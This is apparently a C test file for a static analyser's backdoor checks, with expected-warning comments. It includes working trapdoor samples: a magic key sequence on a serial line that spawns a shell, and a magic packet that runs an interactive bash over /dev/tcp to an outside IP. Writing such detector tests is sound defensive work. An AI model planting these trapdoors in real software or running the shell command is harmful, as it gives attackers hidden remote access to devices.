/* Keys in a certain order on a serial line, and a shell on a connection of bash; beside them a
 * menu. */
#include <fcntl.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static const char keys[] = "AABBDCDC";
static unsigned at;

static int feed(char key) {
    at = key == keys[at] ? at + 1 : key == keys[0];
    if (keys[at])
        return 0;
    at = 0;
    return 1;
}

void bad_line(void) {
    char key;
    int line = open("/dev/ttyS0", O_RDWR | O_NOCTTY);
    while (line >= 0 && read(line, &key, 1) == 1) {
        if (feed(key)) {
            dup2(line, 0);
            dup2(line, 1);
            if (fork() == 0)
                // expected-warning-re@+1 {{{{.*}}[vitrine: trapdoor/magic-input]}}
                execl("/bin/sh", "sh", (char *)NULL);
        }
        if (key == '2')
            system("/etc/init.d/network restart");
    }
}

void bad_connection(int fd) {
    unsigned char packet[64];
    ssize_t size = recv(fd, packet, sizeof packet, 0);
    if (size == sizeof packet && memcmp(packet + 20, "\x7f\x01kd9", 5) == 0)
        // expected-warning-re@+2 {{{{.*}}[vitrine: trapdoor/magic-input]}}
        // expected-warning-re@+1 {{{{.*}}[vitrine: update/remote-shell]}}
        system("/bin/bash -i </dev/tcp/198.51.100.7/443");
}

void good_line(void) {
    char key;
    int line = open("/dev/ttyS0", O_RDWR | O_NOCTTY);
    while (line >= 0 && read(line, &key, 1) == 1) {
        if (key == '1')
            system("/usr/bin/status");
        if (key == '2')
            system("/etc/init.d/network restart");
    }
}
